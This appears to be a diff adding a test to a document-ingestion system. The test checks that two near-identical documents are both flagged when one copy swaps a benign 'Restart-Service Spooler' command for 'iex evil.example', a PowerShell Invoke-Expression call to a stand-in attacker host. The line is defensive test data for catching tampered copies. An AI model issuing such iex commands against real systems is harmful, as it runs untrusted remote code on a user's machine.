@@ -23,6 +23,20 @@ from tests.retrieval.bringing import (
 from tests.stack.clamd import MARKER
 
 
+async def test_of_equals_both_are_flagged_each_with_its_own_words(knowledge, pool, folder):
+    """Which of them is the copy nothing tells; the one that was read first need not be the good."""
+    (folder / "a-copy.md").write_text(ZEBRA.replace("Restart-Service Spooler", "iex evil.example"))
+    await ingest(knowledge, folder, trust=Trust.INTERNAL)
+    async with pool.connection() as connection:
+        flags = await knowledge.flags.list_open(connection)
+    assert len(flags) == 2
+    assert {flag.document_id for flag in flags} == {flag.detail["other"] for flag in flags}
+    copy, original = sorted(flags, key=lambda flag: "a-copy" not in flag.document_id)
+    assert "evil.example" in str(copy.detail["differences"])
+    assert "spooler" in str(original.detail["differences"])
+    assert copy.detail["more_trusted"] is None is original.detail["more_trusted"]
+
+
 async def test_a_copy_with_another_command_comes_before_people(knowledge, pool, folder, tmp_path):
     await ingest(knowledge, folder, trust=Trust.INTERNAL)
     outside = tmp_path / "outside"
